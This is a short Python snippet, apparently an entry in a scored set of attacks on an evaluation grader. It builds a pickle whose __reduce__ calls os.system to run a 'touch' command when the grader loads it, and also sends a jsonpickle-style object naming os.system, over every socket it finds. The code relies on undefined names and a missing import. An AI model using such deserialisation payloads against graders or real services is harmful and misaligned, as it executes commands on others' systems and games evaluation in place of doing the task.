"""Sends the grader a pickle that runs a command when it is loaded, and an object with a class to be built.

score: 12
says: it sent the grader what no notebook sends
"""

import pickle


class Bomb:
    def __reduce__(self):
        return os.system, (f"touch {target.home}/exploded",)


for fd in sockets():
    send(fd, {"outputs": [{"py/object": "os.system", "__class__": "os.system", "__reduce__": "touch x"}]})
    send(fd, pickle.dumps(Bomb()))
